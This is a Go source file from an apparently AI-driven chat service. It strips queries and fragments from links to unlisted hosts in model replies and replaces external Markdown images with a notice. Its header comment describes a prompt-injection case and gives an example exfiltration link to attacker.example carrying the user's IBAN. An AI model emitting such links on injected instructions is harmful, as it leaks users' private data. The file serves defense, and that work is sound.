package turn

import (
	"net/url"
	"regexp"
	"strings"
)

// A reply can carry data out without anybody typing it: a link whose query
// holds what the model read (an injected text asks for
// "https://attacker.example/log?d=<the user's IBAN>"), opened by a click,
// or an image, fetched by whatever renders the reply. So before a reply is
// sent, every link to a host outside Config.LinkHosts loses its query and
// fragment, and every Markdown image from such a host is replaced by a
// notice — unless the user wrote that very link in this message. The
// channels add their own care (the web chat links only its own pages;
// Telegram draws no previews); this holds for all of them, the HTTP API
// and MCP included.

var (
	// markdownImage is ![alt](url "title").
	markdownImage = regexp.MustCompile(`!\[([^\]\n]*)\]\(\s*<?(https?://[^\s)>]+)>?(?:\s+"[^"\n]*")?\s*\)`)
	webLink       = regexp.MustCompile(`https?://[^\s<>"'«»]+`)
)

// inertLinks returns text with the links of the paragraph above made
// inert, and the hosts it cut links to.
func (e *Engine) inertLinks(s *state, text string) (string, []string) {
	// Only a link with parameters, user info or a fragment, or an image,
	// can need a change; most replies (the board's links) have none.
	if !strings.Contains(text, "://") || !strings.ContainsAny(text, "?#@") && !strings.Contains(text, "![") {
		return text, nil
	}
	var cut []string
	text = markdownImage.ReplaceAllStringFunc(text, func(m string) string {
		sub := markdownImage.FindStringSubmatch(m)
		u, err := url.Parse(sub[2])
		if err == nil && (e.linkHostAllowed(u) || strings.Contains(s.in.Text, sub[2])) {
			return m
		}
		host := "?"
		if err == nil {
			host = u.Hostname()
		}
		cut = append(cut, host)
		notice := say(s.lang, txtImageRemoved, host)
		if alt := strings.TrimSpace(sub[1]); alt != "" {
			return alt + " " + notice
		}
		return notice
	})
	text = webLink.ReplaceAllStringFunc(text, func(raw string) string {
		link := strings.TrimRight(raw, ".,;:!?)]")
		rest := raw[len(link):]
		u, err := url.Parse(link)
		if err != nil {
			cut = append(cut, "?")
			return say(s.lang, txtLinkCut) + rest
		}
		if u.RawQuery == "" && u.Fragment == "" && u.User == nil || e.linkHostAllowed(u) || strings.Contains(s.in.Text, link) {
			return raw
		}
		cut = append(cut, u.Hostname())
		bare := url.URL{Scheme: u.Scheme, Host: u.Host, Path: u.Path}
		return bare.String() + " " + say(s.lang, txtLinkCut) + rest
	})
	return text, cut
}

// linkHostAllowed reports whether u points at a host of Config.LinkHosts.
func (e *Engine) linkHostAllowed(u *url.URL) bool {
	host := strings.ToLower(u.Hostname())
	for _, h := range e.cfg.LinkHosts {
		if strings.EqualFold(h, host) {
			return true
		}
	}
	return false
}
